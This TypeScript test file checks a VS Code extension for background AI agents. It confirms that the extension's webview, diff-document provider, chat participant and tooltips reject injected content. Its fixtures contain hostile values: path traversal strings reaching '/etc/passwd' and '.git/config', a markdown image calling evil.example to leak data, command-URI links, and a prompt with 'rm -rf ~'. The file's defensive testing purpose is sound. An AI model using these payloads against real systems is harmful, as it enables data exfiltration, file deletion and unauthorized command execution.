import assert from 'node:assert/strict';
import type { Uri } from 'vscode';
import type { TaskView } from '../../src/protocol';
import type * as EditorStub from '../fakes/editorStub';
import { MemoryLog } from '../fakes/memoryLog';
import { stubEditor } from '../fakes/stubbedEditor';
import { TaskBench } from '../fakes/taskBench';
import { TestRepo } from '../fakes/testRepo';
import { task, taskView } from '../unit/core/views';

const unheard = () => ({ dispose: () => undefined });

describe('what the window hands to VS Code', () => {
  let editor: typeof EditorStub;
  let hooks: { deregister(): void };

  before(async () => {
    hooks = stubEditor();
    editor = await import('../fakes/editorStub');
  });
  after(() => {
    editor.executed.length = 0;
    hooks.deregister();
  });

  describe('the panel', () => {
    it('W06: loads from its own folder only, and runs nothing but its script', async () => {
      const { AgentsWindow } = await import('../../src/views/agentsWindow');
      const webview = {
        ...{ options: {} as Record<string, unknown>, html: '', cspSource: 'https://own.csp' },
        asWebviewUri: (uri: EditorStub.Uri) => uri,
        onDidReceiveMessage: unheard,
        postMessage: () => Promise.resolve(true),
      };
      const panel = { webview, onDidChangeViewState: unheard, onDidDispose: unheard, visible: true };
      const extensionUri = editor.Uri.from({ scheme: 'file', path: '/ext' });
      const source = { onDidChange: unheard };
      const store = { ...source, current: new Map() };
      const deps = { extensionUri, store, fleet: { onLive: unheard }, connections: { list: () => [], ...source } };
      const listing = { current: { filter: '', groupBy: 'status' }, ...source };
      const reviewMarks = { current: new Map(), ...source };
      const beside = {
        listing,
        reviewMarks,
        radar: reviewMarks,
        groups: reviewMarks,
        ground: { current: 'found', ...source },
        day: { current: '', ...source },
        moves: { known: { current: new Map(), ...source } },
        pulls: { known: { current: new Map(), ...source } },
      };
      await new AgentsWindow({ ...deps, ...beside } as never).deserializeWebviewPanel(panel as never);
      const { localResourceRoots, ...options } = webview.options;
      assert.deepEqual(options, { enableScripts: true, enableForms: false, enableCommandUris: false });
      assert.deepEqual((localResourceRoots as unknown[]).map(String), ['file:/ext/dist/webview']);
      const [, policy = ''] = /Content-Security-Policy" content="([^"]*)"/.exec(webview.html) ?? [];
      const directives = policy.split('; ').map((each) => each.replace(/nonce-[\w-]{24}/, 'nonce-N'));
      const own = 'https://own.csp';
      const allowed = [`style-src ${own} 'nonce-N'`, `font-src ${own}`, "script-src 'nonce-N'"];
      assert.deepEqual(directives, ["default-src 'none'", ...allowed]);
      const loaded = [...webview.html.matchAll(/(?:src|href)="([^"]*)"/g)].map(([, address = '']) => address);
      assert.equal(loaded.length, 3);
      assert.ok(loaded.every((address) => address.startsWith('file:/ext/dist/webview/')));
    });
  });

  describe('a document of a change', () => {
    it('W06: is one of a file that the task changed, whatever an address says', async () => {
      const { AgentDiffDocuments } = await import('../../src/providers/agentDiffDocuments');
      const repo = TestRepo.with({ 'a.txt': 'a\n', 'b.txt': 'b\n', 'secret.txt': 'canary\n' });
      const bench = new TaskBench(repo);
      try {
        const { id } = await bench.completed((worktree) => repo.write({ 'a.txt': 'agent\n' }, worktree));
        const view = bench.view({ id } as never);
        const store = { current: new Map([[id, view]]) };
        const documents = new AgentDiffDocuments(() => Promise.resolve({ store, reviews: bench.reviews() } as never));
        const read = async (address: { path?: string; query?: string; scheme?: string }): Promise<string> => {
          const query = `task=${id}&side=head&at=`;
          const uri = editor.Uri.from({ scheme: 'agent-diff', path: '/a.txt', query, ...address });
          return Buffer.from(await documents.readFile(uri as unknown as Uri)).toString();
        };
        assert.equal(await read({}), 'agent\n');
        const paths = [
          ...['/secret.txt', '/b.txt', '/../../../../etc/passwd', '//etc/passwd', '/./a.txt', '/a.txt/../secret.txt'],
          ...['/%2e%2e/secret.txt', '/.git/config', '/', '', '/a.txt\0', '/A.TXT', '/__proto__', `${repo.root}/a.txt`],
        ];
        const queries = [
          ...['', 'task=x&side=head&at=', `task=${id}&side=both&at=`, `task=${id}&side=head&at=../..`],
          ...[`task=${id}&side=head&at=&more=1`, `task=${id}`, 'task=01JD0000000000000000000009&side=head&at='],
        ];
        const forged = [...paths.map((path) => ({ path })), ...queries.map((query) => ({ query })), { scheme: 'file' }];
        for (const address of forged) {
          await assert.rejects(read(address), { message: /^not found: / }, JSON.stringify(address));
        }
        for (const act of ['writeFile', 'delete', 'rename', 'createDirectory'] as const) {
          assert.throws(() => documents[act]('agent-diff:/a.txt' as never), /no permissions/);
        }
      } finally {
        bench.dispose();
      }
    });
  });

  describe('the Chat view', () => {
    it('W05, W07: gets a button that fills New Task and nothing that runs, and titles as text', async () => {
      const { joinChat } = await import('../../src/providers/chatParticipant');
      const trap = '[x](command:workbench.action.quit) ![y](https://evil.example/?d=1)';
      const view = taskView({ task: { ...task, title: trap } });
      joinChat(
        { current: new Map([[task.id, view]]) },
        editor.Uri.from({ scheme: 'file', path: '/ext' }) as never,
        new MemoryLog(),
      );
      const participant = editor.participants.pop();
      const told: string[] = [];
      const buttons: unknown[] = [];
      const stream = {
        markdown: (text: string | EditorStub.MarkdownString) =>
          told.push(typeof text === 'string' ? text : `${String(text.isTrusted)} ${text.value}`),
        button: (button: unknown) => buttons.push(button),
      };
      editor.executed.length = 0;
      const prompt = `${trap}\n/sprint --yes rm -rf ~`;
      for (const request of [{ prompt }, { prompt, command: 'sprint' }, { prompt: '', command: 'status' }]) {
        participant?.(request, {}, stream);
      }
      assert.deepEqual(editor.executed, []);
      assert.equal(
        told.some((text) => /(?<!\\)\]\(/.test(text) || text.startsWith('true')),
        false,
        told.join('\n'),
      );
      const command = 'backgroundAgents.newTask';
      assert.deepEqual(
        buttons.map((button) => (button as { command: string }).command),
        [command, command, 'backgroundAgents.openAgentsWindow'],
      );
      assert.deepEqual((buttons[0] as { arguments: unknown }).arguments, [{ prompt }]);
    });
  });

  describe('W07: text that a model or a repository wrote', () => {
    const trap = '[Fix it](command:workbench.action.terminal.new?%5B%22x%22%5D) $(warning) <a href="command:x">y</a>';
    /** What VS Code would make a link, or an icon, of. */
    const live = /(?<!\\)\]\(|\$\(warning\)/;
    const view: TaskView = taskView({
      task: { ...task, title: trap, prompt: trap, verify: trap },
      state: { kind: 'failed', error: { domain: 'task', reason: 'x', message: trap, audience: 'user' } },
    });

    it('W07: is text in messages, dialogs and progress', async () => {
      const messages = await import('../../src/host/messages');
      const { confirm, tellError, tellInfo, tellWarning, withCancellation, withProgress } = messages;
      editor.said.splice(0);
      await Promise.all([tellInfo(trap), tellWarning(trap), tellError(trap), confirm(trap, trap, 'Do It')]);
      await Promise.all([withProgress(trap, () => Promise.resolve()), withCancellation(trap, () => Promise.resolve())]);
      assert.equal(editor.said.length, 7);
      editor.said.splice(0).forEach((text) => assert.doesNotMatch(text, live));
    });

    it('W07: is text in the rows of the tree and what they say when they are pointed at', async () => {
      const { fileItem, taskItem } = await import('../../src/providers/agentItems');
      const rows = [
        taskItem(view, { colors: 'brief', nowMs: 0, move: null, isElsewhere: false }),
        fileItem(view, { file: { path: trap, status: 'added', added: 1, removed: 0 }, reviewed: null }),
      ];
      for (const { tooltip } of rows as unknown as { tooltip: EditorStub.MarkdownString | string }[]) {
        // A string is no markdown there.
        if (typeof tooltip !== 'string') {
          assert.deepEqual([tooltip.isTrusted, tooltip.supportHtml, tooltip.supportThemeIcons], [false, false, false]);
          assert.doesNotMatch(tooltip.value.replaceAll('$(warning)', ''), live);
        }
      }
      const commands = rows.map(({ command }) => command?.command);
      assert.deepEqual(commands, ['backgroundAgents.openTask', 'backgroundAgents.openDiff']);
    });

    it('W07: is text in the status bar, whose one link is the one of its own', async () => {
      const { createWorktreeItem } = await import('../../src/providers/worktreeItem');
      const { repos, carried } = { repos: [{ worktree: '/data/worktree' }], carried: [] };
      const shown = { ...view, app: { ...view.app, workspace: { repos, carried } } };
      editor.workspace.workspaceFolders = [{ uri: { fsPath: '/data/worktree' } }];
      createWorktreeItem({ current: new Map([[task.id, shown]]), onDidChange: unheard } as never);
      editor.workspace.workspaceFolders = [];
      const item = editor.statusItems.pop() as { text: string; tooltip: EditorStub.MarkdownString };
      assert.deepEqual(item.tooltip.isTrusted, { enabledCommands: ['backgroundAgents.openRepository'] });
      const links = [...item.tooltip.value.matchAll(/(?<!\\)\]\((.*?)\)/g)].map(([, target]) => target);
      assert.deepEqual(links, ['command:backgroundAgents.openRepository']);
      assert.doesNotMatch(item.text, live);
    });
  });
});
